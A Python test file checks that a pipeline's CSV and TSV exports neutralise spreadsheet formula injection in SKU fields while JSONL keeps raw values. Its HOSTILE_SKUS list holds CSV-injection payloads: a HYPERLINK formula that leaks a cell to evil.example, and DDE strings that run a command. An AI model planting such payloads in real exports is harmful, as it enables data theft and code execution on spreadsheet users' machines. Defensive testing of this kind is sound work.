"""CSV and TSV outputs neutralise spreadsheet formulas (OWASP); JSONL keeps the data as it is."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy.engine import Engine

from pipeline import ledger
from pipeline.cli import main
from pipeline.spreadsheet import FORMULA_TRIGGERS, neutralised
from pipeline.writer import ResultWriter
from schemas.taxonomy import Taxonomy
from tests.conftest import make_result

HOSTILE_SKUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_formula_trigger_is_made_text(trigger: str) -> None:
    assert neutralised(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("value", ["SKU-1", "a=b", "", " =1", 0.5, -3, None])
def test_other_cells_are_unchanged(value: object) -> None:
    assert neutralised(value) == value


def test_csv_export_neutralises_formula_skus_and_jsonl_keeps_them(
    tmp_path: Path, sqlite_engine: Engine, taxonomy: Taxonomy
) -> None:
    skus = [*HOSTILE_SKUS, "PLAIN-1"]
    with sqlite_engine.begin() as conn:
        ledger.upsert_items(
            conn, [ledger.CatalogRow(sku=sku, image_uri=f"file:///{i}.jpg") for i, sku in enumerate(skus)]
        )
        run_id = ledger.create_run(conn, "submit", {})
        jobs = ledger.add_jobs(conn, run_id, [(sku, f"file:///{i}.jpg") for i, sku in enumerate(skus)])
    ResultWriter(sqlite_engine, taxonomy).write([make_result(job, taxonomy, category="dress") for job in jobs])
    url = str(sqlite_engine.url)

    result = CliRunner().invoke(
        main, ["--database-url", url, "export", "--format", "csv", "-o", str(tmp_path / "t.csv")]
    )
    assert result.exit_code == 0, result.output
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as handle:
        exported = {row["sku"] for row in csv.DictReader(handle)}
    assert exported == {"'" + sku for sku in HOSTILE_SKUS} | {"PLAIN-1"}
    assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in exported)

    result = CliRunner().invoke(main, ["--database-url", url, "export", "-o", str(tmp_path / "t.jsonl")])
    assert result.exit_code == 0, result.output
    lines = (tmp_path / "t.jsonl").read_text(encoding="utf-8").splitlines()
    assert {json.loads(line)["sku"] for line in lines} == set(skus)


def _cancelled_run_of_hostile_skus(engine: Engine) -> int:
    """A run whose every job failed (code cancelled), with formula-leading skus among them."""
    skus = [*HOSTILE_SKUS, "PLAIN-1"]
    with engine.begin() as conn:
        ledger.upsert_items(
            conn, [ledger.CatalogRow(sku=sku, image_uri=f"file:///{i}.jpg") for i, sku in enumerate(skus)]
        )
        run_id = ledger.create_run(conn, "submit", {})
        ledger.add_jobs(conn, run_id, [(sku, f"file:///{i}.jpg") for i, sku in enumerate(skus)])
        ledger.cancel_run(conn, run_id)
    return run_id


def test_the_failures_csv_neutralises_formula_skus(sqlite_engine: Engine) -> None:
    run_id = _cancelled_run_of_hostile_skus(sqlite_engine)
    args = ["--database-url", str(sqlite_engine.url), "failures", str(run_id), "--format", "csv"]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    exported = {row["sku"] for row in csv.DictReader(io.StringIO(result.stdout, newline=""))}
    assert exported == {"'" + sku for sku in HOSTILE_SKUS} | {"PLAIN-1"}


def test_the_failures_tsv_neutralises_formula_skus_like_the_csv(sqlite_engine: Engine) -> None:
    run_id = _cancelled_run_of_hostile_skus(sqlite_engine)
    result = CliRunner().invoke(main, ["--database-url", str(sqlite_engine.url), "failures", str(run_id)])
    assert result.exit_code == 0, result.output
    header, *lines = result.stdout.splitlines()  # piped: tab-separated
    assert header.split("\t")[0] == "sku"
    cells = [line.split("\t") for line in lines]
    assert all(len(row) == len(header.split("\t")) for row in cells)  # a tab in a sku moved no column
    exported = {row[0] for row in cells}
    assert exported == {"'" + sku.replace("\t", " ").replace("\r", " ") for sku in HOSTILE_SKUS} | {"PLAIN-1"}
    assert not any(cell.startswith(FORMULA_TRIGGERS) for row in cells for cell in row)
